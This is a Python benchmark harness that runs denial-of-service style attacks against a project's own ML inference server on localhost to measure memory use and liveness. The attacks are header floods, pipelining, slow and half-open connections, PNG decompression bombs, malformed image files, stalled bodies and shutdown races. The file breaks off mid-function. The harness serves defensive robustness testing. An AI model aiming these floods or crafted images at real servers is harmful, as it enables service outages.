"""Attack harness (not a test): hostile clients, each measured against a fresh mlapp.serve.

    venv/bin/python bench/attack.py --app /tmp/base/app:plain --json bench/.work/attack-before.json
    venv/bin/python bench/attack.py --app /tmp/base/app:plain --app app --tls --json bench/.work/attack.json
    venv/bin/python bench/attack.py --app app --only header,image-png-1x25m
    venv/bin/python bench/attack.py --app /tmp/before/app --app app --tls --only trailer   # before/after a fix

Each --app is a directory holding the ``mlapp`` package; ``DIR:plain`` marks a
server that speaks plain HTTP only (the baseline), which --tls then leaves on
plain HTTP. Every server gets the same environment (the model bench/serve.py
trains into bench/.work/store, its credentials, an internal metrics port, and
either a throwaway CA's certificate for localhost/127.0.0.1 or
MLAPP_PLAIN_HTTP=1), on 127.0.0.1 only.

Every attack starts a fresh server, so its peak memory is its own, waits for
/v2/health/ready, then runs bounded in bytes and time. Meanwhile one thread
samples the server's VmRSS every 10 ms (and VmHWM at the end), and a separate
process, so the attacker's own GIL cannot delay it, probes GET /v2/health/live
on a new connection every 100 ms with a 15 s timeout, as the kubelet does.
Sending stops once the server's RSS passes --rss-limit-mib or it dies; past
--kill-mib the harness kills it. An attack that overruns its budget gets its
server killed, which breaks whatever its sockets were waiting on.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime
import http.client
import io
import json
import multiprocessing
import os
import platform
import re
import resource
import select
import signal
import socket
import ssl
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zlib
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass, field
from multiprocessing.connection import Connection
from multiprocessing.synchronize import Event as ProcessEvent
from pathlib import Path
from typing import Any

from PIL import Image

# Run as a script, bench/ is on the path but not the repository, and `bench.serve` is
# the name mypy and `python -m bench.*` know this module's neighbour by.
sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bench import serve
from tools.devcert import Certificates as TlsFiles
from tools.devcert import make_certificates as make_tls_files

HOST = "127.0.0.1"
LIVE = "/v2/health/live"
INFER = f"/v2/models/{serve.MODEL}/infer"
MiB = 1024 * 1024
MB = 1_000_000

Details = dict[str, Any]
# What an attack reports: the table's one-line outcome, and everything else for the JSON.
Finding = tuple[str, Details]


# --- the server under attack ---------------------------------------------------------


@dataclass(frozen=True)
class App:
    """One --app: where its ``mlapp`` package is, and whether the harness speaks TLS to it."""

    directory: Path
    tls: bool
    plain_only: bool

    @property
    def label(self) -> str:
        return f"{self.directory} ({'TLS' if self.tls else 'plain HTTP'})"


def server_env(app: App, tls: TlsFiles | None, metrics_port: int) -> dict[str, str]:
    """The variables every server gets on top of bench/serve.py's; a baseline ignores those it does not know."""
    env = {"MLAPP_METRICS_PORT": str(metrics_port)}
    if app.tls and tls is not None:
        env["MLAPP_TLS_CERT_FILE"] = str(tls.cert)
        env["MLAPP_TLS_KEY_FILE"] = str(tls.key)
    else:
        env["MLAPP_PLAIN_HTTP"] = "1"
    return env


def read_status_kib(pid: int) -> dict[str, int]:
    """VmRSS and VmHWM of ``pid`` in KiB; empty once the process has exited (a zombie has neither)."""
    out: dict[str, int] = {}
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as f:
            for line in f:
                if line.startswith(("VmRSS:", "VmHWM:")):
                    key, value = line.split(":", 1)
                    out[key] = int(value.split()[0])
    except (OSError, ValueError):
        return {}
    return out


def open_fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return 0


class RssMonitor:
    """Samples the server's RSS every 10 ms in a thread; says when sending must stop, and kills past a hard cap."""

    def __init__(self, pid: int, limit_mib: float, kill_mib: float) -> None:
        self.pid = pid
        self.limit_kib = limit_mib * 1024
        self.kill_kib = kill_mib * 1024
        self.peak_kib = 0
        self.killed_at_mib: float | None = None
        self.over = threading.Event()  # past the limit, or the process is gone
        self.dead = threading.Event()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.idle_mib = read_status_kib(pid).get("VmRSS", 0) / 1024

    def start(self) -> RssMonitor:
        self._thread.start()
        return self

    def _run(self) -> None:
        while not self._stop.is_set():
            rss = read_status_kib(self.pid).get("VmRSS")
            if rss is None:
                self.dead.set()
                self.over.set()
                return
            self.peak_kib = max(self.peak_kib, rss)
            if rss > self.limit_kib:
                self.over.set()
            if rss > self.kill_kib and self.killed_at_mib is None:
                self.killed_at_mib = rss / 1024
                with contextlib.suppress(ProcessLookupError):
                    os.kill(self.pid, signal.SIGKILL)
            self._stop.wait(0.01)

    def stop(self) -> float:
        """The peak in MiB: the largest sample, or the kernel's high-water mark if the process still has one."""
        self._stop.set()
        self._thread.join(timeout=2)
        hwm = read_status_kib(self.pid).get("VmHWM", 0)
        return max(self.peak_kib, hwm) / 1024


# --- the liveness prober, in its own process ------------------------------------------


def _probe_loop(
    port: int, *, cafile: str | None, interval: float, timeout: float, first: ProcessEvent, stop: ProcessEvent,
    out: Connection,
) -> None:  # fmt: skip
    context = ssl.create_default_context(cafile=cafile) if cafile else None
    samples: list[tuple[float, str | None]] = []
    while not stop.is_set():
        began = time.perf_counter()
        conn: http.client.HTTPConnection
        if context is None:
            conn = http.client.HTTPConnection(HOST, port, timeout=timeout)
        else:
            conn = http.client.HTTPSConnection(HOST, port, timeout=timeout, context=context)
        error: str | None = None
        try:
            conn.request("GET", LIVE)
            response = conn.getresponse()
            response.read()
            if response.status != 200:
                error = f"status {response.status}"
        except TimeoutError:
            error = f"timeout {timeout:.0f} s"
        except (OSError, http.client.HTTPException) as e:
            error = type(e).__name__
        finally:
            conn.close()
        elapsed = time.perf_counter() - began
        samples.append((elapsed * 1000, error))
        first.set()
        stop.wait(max(0.0, interval - elapsed))
    out.send(samples)
    out.close()


@dataclass
class Liveness:
    probes: int = 0
    failed: int = 0
    p50_ms: float | None = None
    max_ms: float | None = None
    failures: dict[str, int] = field(default_factory=dict)

    def cell(self) -> str:
        if self.p50_ms is None or self.max_ms is None:
            return "-"
        return f"{self.p50_ms:.1f} / {self.max_ms:.0f}"


class Prober:
    """GET /v2/health/live every ``interval`` seconds on a new connection, from a separate process."""

    def __init__(self, port: int, cafile: Path | None, interval: float = 0.1, timeout: float = 15.0) -> None:
        ctx = multiprocessing.get_context("spawn")
        self.timeout = timeout
        self._first = ctx.Event()
        self._stop = ctx.Event()
        self._recv, send = ctx.Pipe(duplex=False)
        self._proc = ctx.Process(
            target=_probe_loop,
            args=(port,),
            kwargs={
                "cafile": str(cafile) if cafile else None,
                "interval": interval,
                "timeout": timeout,
                "first": self._first,
                "stop": self._stop,
                "out": send,
            },
            daemon=True,
        )
        self._proc.start()
        send.close()

    def wait_first(self, timeout: float = 20.0) -> None:
        self._first.wait(timeout)

    def stop(self) -> Liveness:
        self._stop.set()
        samples: list[tuple[float, str | None]] = []
        if self._recv.poll(self.timeout + 5):
            with contextlib.suppress(EOFError, OSError):
                samples = self._recv.recv()
        self._proc.join(5)
        if self._proc.is_alive():
            self._proc.kill()
            self._proc.join(5)
        ok = [ms for ms, error in samples if error is None]
        failures = Counter(error for _, error in samples if error is not None)
        return Liveness(
            probes=len(samples),
            failed=sum(failures.values()),
            p50_ms=statistics.median(ok) if ok else None,
            max_ms=max(ok) if ok else None,
            failures=dict(failures),
        )


# --- what an attack gets: the target, and socket helpers --------------------------------


@dataclass
class Target:
    server: serve.Server
    monitor: RssMonitor
    context: ssl.SSLContext | None  # None: plain HTTP
    metrics_port: int
    deadline: float  # time.monotonic()

    @property
    def port(self) -> int:
        return self.server.port

    @property
    def pid(self) -> int:
        return self.server.proc.pid

    def left(self) -> float:
        return self.deadline - time.monotonic()

    def stop_reason(self, until: float | None = None) -> str | None:
        """Why sending must stop now, or None: the server is gone or past the RSS limit, or time is up."""
        if self.monitor.dead.is_set():
            return "server exited"
        if self.monitor.over.is_set():
            return f"RSS over {self.monitor.limit_kib / 1024:.0f} MiB"
        if time.monotonic() > min(self.deadline, until if until is not None else self.deadline):
            return "time limit"
        return None

    def raw(self, timeout: float = 5.0) -> socket.socket:
        """A TCP connection, no TLS even where the server speaks it: a client that never starts a handshake."""
        sock = socket.create_connection((HOST, self.port), timeout=timeout)
        # Closing sends RST: thousands of sockets leave no TIME_WAIT to exhaust the ephemeral ports.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        return sock

    def connect(self, timeout: float = 10.0) -> socket.socket:
        """A connection the way a client speaks to this server (TLS, handshake done, when it has TLS)."""
        sock = self.raw(timeout)
        if self.context is None:
            return sock
        try:
            return self.context.wrap_socket(sock, server_hostname=HOST)
        except BaseException:
            sock.close()
            raise

    def http(self, timeout: float = 30.0) -> http.client.HTTPConnection:
        if self.context is None:
            return http.client.HTTPConnection(HOST, self.port, timeout=timeout)
        return http.client.HTTPSConnection(HOST, self.port, timeout=timeout, context=self.context)


def readable(sock: socket.socket, timeout: float) -> bool:
    if isinstance(sock, ssl.SSLSocket) and sock.pending():
        return True
    poller = select.poll()  # not select(): a harness holding 15,000 sockets has fds past FD_SETSIZE
    poller.register(sock, select.POLLIN | select.POLLERR | select.POLLHUP)
    return bool(poller.poll(max(0.0, timeout) * 1000))


_STATUS_LINE = re.compile(rb"HTTP/1\.[01] (\d{3})")


def read_answer(sock: socket.socket, timeout: float, data: bytes = b"") -> str:
    """What the server said on ``sock`` within ``timeout``: a status code, "closed", "reset" or "no answer".

    ``data``: what was already read of it.
    """
    sock.settimeout(max(0.05, timeout))
    try:
        while b"\r\n" not in data and len(data) < 4096:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    except TimeoutError:
        if not data:
            return f"no answer in {timeout:.0f} s"
    except ConnectionResetError:
        if not data:
            return "reset"
    except (ssl.SSLError, OSError) as e:
        if not data:
            return f"closed ({type(e).__name__})"
    if not data:
        return "closed"
    match = _STATUS_LINE.match(data)
    return match.group(1).decode() if match else f"garbage {data[:20]!r}"


def answer_now(sock: socket.socket) -> str | None:
    """What the server has said on ``sock`` so far, as ``read_answer`` tells it; None while it has said nothing."""
    if not readable(sock, 0):
        return None
    # Under TLS the socket also turns readable for records that carry no data (session tickets).
    sock.setblocking(False)
    try:
        first = sock.recv(4096)
    except (ssl.SSLWantReadError, BlockingIOError):
        return None
    except ConnectionResetError:
        return "reset"
    except (ssl.SSLError, OSError) as e:
        return f"closed ({type(e).__name__})"
    return read_answer(sock, 1.0, first) if first else "closed"


def pump(
    t: Target,
    sock: socket.socket,
    pieces: Iterable[bytes],
    *,
    stall_s: float = 10.0,
    watch_answer: bool = True,
    until: float | None = None,
) -> tuple[int, str | None]:
    """Send ``pieces`` until they run out (reason None), the server answers or closes, or the target says stop.

    Returns the bytes the socket accepted and why sending stopped.
    """
    sent = 0
    for piece in pieces:
        why = t.stop_reason(until)
        if why is not None:
            return sent, why
        answer = answer_now(sock) if watch_answer else None
        if answer is not None:
            return sent, answer
        view = memoryview(piece)
        while view:
            sock.settimeout(stall_s)
            try:
                n = sock.send(view)
            except TimeoutError:
                return sent, f"send blocked {stall_s:.0f} s"
            except (OSError, ssl.SSLError):
                # The server hung up; what it said first, if anything, may still be readable.
                return sent, read_answer(sock, 1.0)
            sent += n
            view = view[n:]
    return sent, None


def mb(n: float) -> str:
    return f"{n / MB:.1f} MB"


def in_threads(jobs: list[Callable[[], None]], timeout: float) -> None:
    threads = [threading.Thread(target=job, daemon=True) for job in jobs]
    for thread in threads:
        thread.start()
    end = time.monotonic() + timeout
    for thread in threads:
        thread.join(max(0.0, end - time.monotonic()))


def close_all(socks: Iterable[socket.socket]) -> None:
    for sock in socks:
        with contextlib.suppress(OSError):
            sock.close()


AUTH = {"Authorization": serve.BASIC_AUTH}


@dataclass
class Reply:
    status: int | None
    body: bytes
    error: str | None
    seconds: float

    def short(self) -> str:
        """The status, and the server's message where it gave one (what the table shows)."""
        if self.status is None:
            return self.error or "no answer"
        try:
            message = json.loads(self.body).get("error")
        except (ValueError, AttributeError):
            message = None
        return f"{self.status} {message[:60]}" if isinstance(message, str) else str(self.status)


def request(
    t: Target, method: str, path: str, body: bytes | None = None, *, headers: dict[str, str] | None = None,
    timeout: float = 30.0,
) -> Reply:  # fmt: skip
    began = time.monotonic()
    conn = t.http(timeout)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        response = conn.getresponse()
        data = response.read(1 << 20)
        return Reply(response.status, data, None, time.monotonic() - began)
    except TimeoutError:
        return Reply(None, b"", f"no answer in {timeout:.0f} s", time.monotonic() - began)
    except (OSError, http.client.HTTPException) as e:
        return Reply(None, b"", type(e).__name__, time.monotonic() - began)
    finally:
        conn.close()


def request_head(method: str, path: str, extra: str = "") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: {HOST}\r\n{extra}".encode("latin-1")


# --- 1, 2: headers --------------------------------------------------------------------


def header_flood(t: Target) -> Finding:
    """One connection, no credentials, sending header lines that never end (up to 450 MB)."""
    line = b"X-a: " + b"a" * 1000 + b"\r\n"
    return flood(t, request_head("GET", LIVE), line * 64, 450 * MB)


def header_value(t: Target) -> Finding:
    """One header value of up to 160 MB, sent in 16 KB pieces; the figure is the liveness latency."""
    return flood(t, request_head("GET", LIVE, "X-big: "), b"a" * 16_384, 160 * MB)


def flood(t: Target, head: bytes, piece: bytes, limit: int) -> Finding:
    """``head``, then ``piece`` again and again up to ``limit`` bytes, on one connection; and what the server said."""
    sock = t.connect()
    try:
        sock.sendall(head)
        sent, why = pump(t, sock, (piece for _ in range(limit // len(piece))))
        if why is None:
            # All sent, some of it still in the kernel's buffers: what does the server say once it has read it?
            why = read_answer(sock, 2.0)
    finally:
        sock.close()
    return f"{why} after {mb(sent)}", {"bytes_accepted": sent, "stopped_by": why, "limit_bytes": limit}


# --- 3: pipelining --------------------------------------------------------------------


def pipelining(t: Target) -> Finding:
    """40 connections, no credentials, each 7,000 pipelined GETs of liveness whose answers are not read."""
    connections, per_connection, hold_s = 40, 7_000, 5.0
    payload = request_head("GET", LIVE, "\r\n") * per_connection
    pieces = [payload[i : i + 65_536] for i in range(0, len(payload), 65_536)]
    socks = [t.connect() for _ in range(connections)]
    sent = [0] * connections
    why: list[str | None] = [None] * connections
    send_until = time.monotonic() + min(30.0, t.left() - 15)

    def job(i: int) -> Callable[[], None]:
        def run() -> None:
            sent[i], why[i] = pump(t, socks[i], pieces, stall_s=5.0, watch_answer=False, until=send_until)

        return run

    try:
        in_threads([job(i) for i in range(connections)], timeout=max(1.0, send_until - time.monotonic() + 10))
        # Hold the answers unread for a while: this is when the server holds them.
        hold_end = time.monotonic() + hold_s
        while time.monotonic() < hold_end and t.stop_reason() is None:
            time.sleep(0.05)
        statuses = Counter(s for s in why if s is not None)
        seen = drain_statuses(socks, 3.0)
    finally:
        close_all(socks)
    total = len(payload) * connections
    stopped = ", ".join(f"{n} x {s}" for s, n in statuses.most_common()) or "all sent"
    outcome = f"{mb(sum(sent))} of {mb(total)} accepted ({stopped})"
    return outcome, {
        "bytes_offered": total,
        "bytes_accepted": sum(sent),
        "per_connection_stop": dict(statuses),
        "statuses_read_in_3s_after_hold": seen,
    }


def drain_statuses(socks: list[socket.socket], seconds: float) -> dict[str, int]:
    """Read what the server answered on ``socks`` for ``seconds``, counting status codes (and closes)."""
    seen: Counter[str] = Counter()
    tails = dict.fromkeys(socks, b"")
    end = time.monotonic() + seconds
    open_socks = list(socks)
    while open_socks and time.monotonic() < end:
        for sock in list(open_socks):
            if not readable(sock, 0):
                continue
            sock.setblocking(False)
            try:
                data = sock.recv(262_144)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                seen["closed"] += 1
                open_socks.remove(sock)
                continue
            text = tails[sock] + data
            counted_to = 0
            for match in _STATUS_LINE.finditer(text):
                seen[match.group(1).decode()] += 1
                counted_to = match.end()
            # A status line cut by the read is completed by the next one; none is counted twice.
            tails[sock] = text[max(counted_to, len(text) - 15) :]
        time.sleep(0.01)
    return dict(seen)


# --- 4: idle and slow connections --------------------------------------------------------


def idle_one(t: Target) -> Finding:
    """How long a silent connection, one trickling a header byte a second, and one idle after an answer stay open.

    Each one's clock starts when it has nothing more to say: at connect, at connect, at the answer.
    """
    cap = min(30.0, t.left() - 3)
    silent = t.raw()
    since = {"silent": time.monotonic()}
    slow = t.connect()
    slow.sendall(request_head("GET", LIVE, "X-slow: "))
    since["slow header"] = time.monotonic()
    after = t.connect()
    after.sendall(request_head("GET", LIVE, "\r\n"))
    first = read_answer(after, 5.0)
    since["idle after an answer"] = time.monotonic()
    socks = {"silent": silent, "slow header": slow, "idle after an answer": after}
    if not first.isdigit():
        close_all(socks.values())
        return f"a request for liveness got {first}", {"first_answer": first}
    outcome: dict[str, str] = {}
    trickled = 0
    next_byte = since["slow header"] + 1.0
    drained = False
    try:
        while len(outcome) < len(socks) and time.monotonic() - min(since.values()) < cap and not t.stop_reason():
            if not drained:
                # The rest of the answer (headers, body): what comes after it is the server's close, or nothing.
                drained = True
                with contextlib.suppress(OSError, ssl.SSLError):
                    after.settimeout(0.2)
                    after.recv(65_536)
            for name, sock in socks.items():
                answer = None if name in outcome else answer_now(sock)
                if answer is not None:
                    outcome[name] = f"{answer} after {time.monotonic() - since[name]:.1f} s"
            if "slow header" not in outcome and time.monotonic() >= next_byte:
                try:
                    slow.settimeout(5.0)  # answer_now leaves it non-blocking
                    slow.send(b"a")
                    trickled += 1
                except (OSError, ssl.SSLError):
                    outcome["slow header"] = (
                        f"{read_answer(slow, 1.0)} after {time.monotonic() - since['slow header']:.1f} s"
                    )
                next_byte += 1.0
            time.sleep(0.05)
    finally:
        close_all(socks.values())
    ordered = {name: outcome.get(name, f"open after {cap:.0f} s") for name in socks}
    return "; ".join(f"{name}: {what}" for name, what in ordered.items()), {
        **ordered,
        "slow_header_bytes_sent": trickled,
    }


def idle_many(t: Target) -> Finding:
    """As many half-open connections (TCP only, nothing sent) as the fd limit allows, up to 15,000."""
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = max(0, min(15_000, soft - 512))
    hold_s = 5.0
    socks: list[socket.socket] = []
    failures: Counter[str] = Counter()
    consecutive = 0
    began = time.monotonic()
    try:
        while len(socks) < want and consecutive < 50 and t.stop_reason(began + 30) is None:
            try:
                socks.append(t.raw(timeout=2.0))
                consecutive = 0
            except TimeoutError:
                failures["connect timeout"] += 1
                consecutive += 1
            except OSError as e:
                failures[type(e).__name__] += 1
                consecutive += 1
        connect_s = time.monotonic() - began
        server_fds = 0
        hold_end = time.monotonic() + hold_s
        while time.monotonic() < hold_end and t.stop_reason() is None:
            server_fds = max(server_fds, open_fds(t.pid))
            time.sleep(0.5)
        states = Counter(connection_state(sock) for sock in socks)
    finally:
        close_all(socks)
    outcome = (
        f"{len(socks)} of {want} connected; server held {server_fds} fds; "
        f"{states.get('open', 0)} open after {hold_s:.0f} s"
    )
    return outcome, {
        "wanted": want,
        "connected": len(socks),
        "connect_seconds": round(connect_s, 2),
        "connect_failures": dict(failures),
        "server_fds_max": server_fds,
        "states_after_hold": dict(states),
    }


def connection_state(sock: socket.socket) -> str:
    """What became of a connection that sent nothing: "open", "closed", "reset", or what the server answered."""
    # Non-blocking: in timeout mode Python would first wait for the socket to become readable.
    sock.setblocking(False)
    try:
        data = sock.recv(16, socket.MSG_PEEK)
    except BlockingIOError:
        return "open"
    except ConnectionResetError:
        return "reset"
    except OSError as e:
        return type(e).__name__
    if not data:
        return "closed"
    match = _STATUS_LINE.match(data)
    return f"answered {match.group(1).decode()}" if match else "answered"


# --- 5: images --------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, color_type: int, idat: bytes, *, end: bool = True) -> bytes:
    """A PNG of 8-bit samples from its parts (color type 0 gray, 6 RGBA), built by hand so it may lie."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    tail = png_chunk(b"IEND", b"") if end else b""
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + tail


def png_declares_1x25m() -> bytes:
    """A 68-byte PNG declaring 1 x 25,000,000 RGBA pixels; it holds one row, and decoders fill in the rest."""
    return png(1, 25_000_000, 6, zlib.compress(b"\0" * 5, 9))


def png_rgba_5000() -> bytes:
    """A complete, valid 5000x5000 RGBA PNG of transparent pixels: ~100 MB of samples in ~97 KB."""
    row = b"\0" * (1 + 5000 * 4)  # filter byte "none", then the pixels
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row) for _ in range(5000)) + z.flush()
    return png(5000, 5000, 6, idat)


def png_without_end() -> bytes:
    """A 32x32 gray gradient cut before its last chunk: every pixel is there, the file is not whole."""
    rows = b"".join(b"\0" + bytes((x + y) * 4 for x in range(32)) for y in range(32))
    return png(32, 32, 0, zlib.compress(rows, 9), end=False)


def jpeg_cut() -> bytes:
    """A 64x64 gray gradient JPEG cut at three quarters of its length."""
    buf = io.BytesIO()
    Image.linear_gradient("L").resize((64, 64)).save(buf, format="JPEG", quality=90)
    data = buf.getvalue()
    return data[: len(data) * 3 // 4]


def dds_unknown_pixel_format() -> bytes:
    """A DDS header whose pixel format has none of the flags a decoder knows (RGB, luminance, palette, FourCC)."""
    header = struct.pack("<6I", 0x1007, 16, 16, 64, 0, 0) + b"\0" * 44  # flags, size, pitch, depth, mips, reserved
    pixel_format = struct.pack("<8I", 32, 0, 0, 32, 0, 0, 0, 0)  # size 32, flags 0
    caps = struct.pack("<5I", 0x1000, 0, 0, 0, 0)
    return b"DDS " + struct.pack("<I", 124) + header + pixel_format + caps + b"\0" * 1024


def blp2_jpeg() -> bytes:
    """A BLP2 file declaring JPEG compression (0), which only BLP1 files may use: header, palette, one mipmap."""
    header = b"BLP2" + struct.pack("<i4b2I", 0, 1, 0, 0, 0, 8, 8)
    palette = b"\0" * 1024
    offsets = struct.pack("<16I", 20 + 128 + len(palette), *([0] * 15))
    lengths = struct.pack("<16I", 64, *([0] * 15))
    return header + offsets + lengths + palette + b"\0" * 64


def spider_image_in_stack() -> bytes:
    """A SPIDER 2-D image header (little-endian floats) that says it is image 1 of a stack but gives no stack."""
    words = [0.0] * 256  # one 1024-byte header: 16 records of 64 bytes
    # 1-based SPIDER header words: nslice, nrow, irec, iform, nsam, labrec, labbyt, lenbyt, istack, imgnum.
    for index, value in ((1, 1), (2, 16), (3, 16), (5, 1), (12, 16), (13, 16), (22, 1024), (23, 64), (24, 0), (27, 1)):
        words[index - 1] = float(value)
    return struct.pack("<256f", *words) + b"\0" * (16 * 16 * 4)


def multipart(field_name: str, data: bytes, filename: str) -> tuple[bytes, str]:
    boundary = "attack-boundary-7f3a"
    body = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field_name}\"; filename=\"{filename}\"\r\n"
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode() + data + f"\r\n--{boundary}--\r\n".encode()  # fmt: skip
    return body, f"multipart/form-data; boundary={boundary}"


def image_attack(build: Callable[[], bytes], filename: str) -> Callable[[Target], Finding]:
    def run(t: Target) -> Finding:
        image = build()
        body, content_type = multipart("image", image, filename)
        reply = request(
            t, "POST", "/predict", body, headers={**AUTH, "Content-Type": content_type}, timeout=max(1.0, t.left() - 2)
        )
        return f"{reply.short()} ({len(image):,} bytes)", {
            "image_bytes": len(image),
            "status": reply.status,
            "error": reply.error,
            "seconds": round(reply.seconds, 3),
            "body": reply.body[:300].decode("utf-8", "replace"),
        }

    what = (build.__doc__ or build.__name__).splitlines()[0]
    run.__doc__ = f"POST /predict, authenticated, with {what[:1].lower()}{what[1:]}"
    return run


# --- 6: unfinished bodies ---------------------------------------------------------------


def unfinished_bodies(t: Target) -> Finding:
    """50 authenticated POSTs declaring 8 MiB, each sending 8 MiB - 1 byte, then nothing."""
    connections, declared = 50, 8 * MiB
    head = request_head(
        "POST", "/predict",
        f"Authorization: {serve.BASIC_AUTH}\r\nContent-Type: application/json\r\nContent-Length: {declared}\r\n\r\n",
    )  # fmt: skip
    piece = b"a" * 65_536
    pieces = [head] + [piece] * (declared // len(piece) - 1) + [piece[:-1]]
    # Past mlapp.serve's default body timeout (60 s, mlapp.settings.Limits), so its answer is seen.
    hold_cap = 70.0
    socks: list[socket.socket] = []
    sent = [0] * connections
    why: list[str | None] = [None] * connections
    done_at = [0.0] * connections
    send_until = time.monotonic() + min(20.0, t.left() - hold_cap - 5)
    try:
        socks = [t.connect() for _ in range(connections)]

        def job(i: int) -> Callable[[], None]:
            def run() -> None:
                sent[i], why[i] = pump(t, socks[i], pieces, stall_s=5.0, until=send_until)
                done_at[i] = time.monotonic()

            return run

        in_threads([job(i) for i in range(connections)], timeout=max(1.0, send_until - time.monotonic() + 10))
        answers: dict[int, str] = {i: f"{w} while sending, at {mb(sent[i])}" for i, w in enumerate(why) if w}
        hold_end = time.monotonic() + min(hold_cap, t.left() - 3)
        while len(answers) < connections and time.monotonic() < hold_end and not t.monitor.dead.is_set():
            for i, sock in enumerate(socks):
                answer = None if i in answers else answer_now(sock)
                if answer is not None:
                    answers[i] = f"{answer} after {time.monotonic() - done_at[i]:.1f} s"
            time.sleep(0.05)
        held = time.monotonic() - max(done_at)
    finally:
        close_all(socks)
    for i in range(connections):
        answers.setdefault(i, f"no answer in {held:.0f} s")
    ordered = [answers[i] for i in range(connections)]
    return summarise(ordered), {"bytes_accepted": sum(sent), "answers": ordered}


_FIGURE = re.compile(r"\d+(?:\.\d+)?")


def summarise(answers: list[str]) -> str:
    """Answers that differ only in their figures, counted, each figure as its range: "48 x 408 after 60-60.2 s"."""
    groups: dict[str, list[list[float]]] = {}
    for answer in answers:
        groups.setdefault(_FIGURE.sub("#", answer), []).append([float(x) for x in _FIGURE.findall(answer)])
    parts = []
    for shape, figures in sorted(groups.items(), key=lambda item: -len(item[1])):
        ranges = [
            f"{min(column):g}" if min(column) == max(column) else f"{min(column):g}-{max(column):g}"
            for column in zip(*figures, strict=True)
        ]
        words = shape.split("#")
        text = words[0] + "".join(r + w for r, w in zip(ranges, words[1:], strict=True))
        parts.append(f"{len(figures)} x {text}")
    return "; ".join(parts)


# --- 7: non-finite numbers ----------------------------------------------------------------


def non_finite(t: Target) -> Finding:
    """/infer with "nan", "inf", null and 1e39 (over FP32's range) among the data; and a text/plain body."""
    pixels = [v / 16 for v in serve.DIGIT]
    cases: list[tuple[str, str, Any]] = [
        ('"nan"', "application/json", "nan"),
        ('"inf"', "application/json", "inf"),
        ("null", "application/json", None),
        ("1e39", "application/json", 1e39),
        ("text/plain", "text/plain", pixels[0]),
    ]
    seen: dict[str, str] = {}
    details: Details = {}
    for name, content_type, value in cases:
        tensor = {"name": "input", "shape": [1, 1, 8, 8], "datatype": "FP32", "data": [value, *pixels[1:]]}
        body = json.dumps({"inputs": [tensor]}).encode()
        reply = request(
            t, "POST", INFER, body, headers={**AUTH, "Content-Type": content_type}, timeout=max(1.0, t.left() - 1)
        )
        seen[name] = describe_infer(reply)
        details[name] = {
            "status": reply.status,
            "error": reply.error,
            "body": reply.body[:300].decode("utf-8", "replace"),
        }
    return ", ".join(f"{name}: {what}" for name, what in seen.items()), details


def describe_infer(reply: Reply) -> str:
    if reply.status != 200:
        return reply.short() if reply.status is None else str(reply.status)
    try:
        data = json.loads(reply.body)["outputs"][0]["data"]
    except (ValueError, KeyError, IndexError, TypeError):
        return "200 unreadable"
    return "200 null probabilities" if any(v is None for v in data) else "200"


# --- 8: shutdown -----------------------------------------------------------------------------


def shutdown(t: Target) -> Finding:
    """SIGTERM while two requests are in (their bodies half sent): one body completes 1 s later, one never does.

    Liveness probes after SIGTERM are refused once the listener closes, and count as failed.
    """
    body = serve.json_body().data
    head = request_head(
        "POST", INFER,
        f"Authorization: {serve.BASIC_AUTH}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n",
    )  # fmt: skip
    half = len(body) // 2
    slow, stalled = t.connect(), t.connect()
    socks = {"body completed 1 s after SIGTERM": slow, "body never completed": stalled}
    for sock in socks.values():
        sock.sendall(head + body[:half])
    time.sleep(0.5)  # the server has the headers and half of each body
    proc = t.server.proc
    sigterm = time.monotonic()
    proc.send_signal(signal.SIGTERM)
    answers: dict[str, str] = {}
    rest_sent = False
    exited_after: float | None = None
    cap = min(45.0, t.left() - 3)
    try:
        while time.monotonic() - sigterm < cap:
            now = time.monotonic() - sigterm
            if not rest_sent and now >= 1.0:
                rest_sent = True
                try:
                    slow.settimeout(5.0)  # answer_now leaves it non-blocking
                    slow.sendall(body[half:])
                except (OSError, ssl.SSLError) as e:
                    answers["body completed 1 s after SIGTERM"] = f"could not finish the body ({type(e).__name__})"
            for name, sock in socks.items():
                answer = None if name in answers else answer_now(sock)
                if answer is not None:
                    answers[name] = f"{answer} at {time.monotonic() - sigterm:.1f} s"
            if exited_after is None and proc.poll() is not None:
                exited_after = time.monotonic() - sigterm
            if exited_after is not None and len(answers) == len(socks):
                break
            time.sleep(0.02)
    finally:
        close_all(socks.values())
    if exited_after is None:
        proc.kill()
        proc.wait(5)
        exit_text = f"still running {cap:.0f} s after SIGTERM (killed)"
    else:
        exit_text = f"exit {proc.returncode} after {exited_after:.1f} s"
    for name in socks:
        answers.setdefault(name, "no answer")
    return f"{exit_text}; " + "; ".join(f"{k}: {v}" for k, v in answers.items()), {
        "exit_code": proc.returncode,
        "seconds_to_exit": None if exited_after is None else round(exited_after, 2),
        **answers,
    }


# --- 9: metrics ---------------------------------------------------------------------------


def metrics(t: Target) -> Finding:
    """/metrics without credentials: on the public port, and on the internal metrics port if there is one."""
    public = request(t, "GET", "/metrics", timeout=10)
    conn = http.client.HTTPConnection(HOST, t.metrics_port, timeout=10)
    try:
        conn.request("GET", "/metrics")
        response = conn.getresponse()
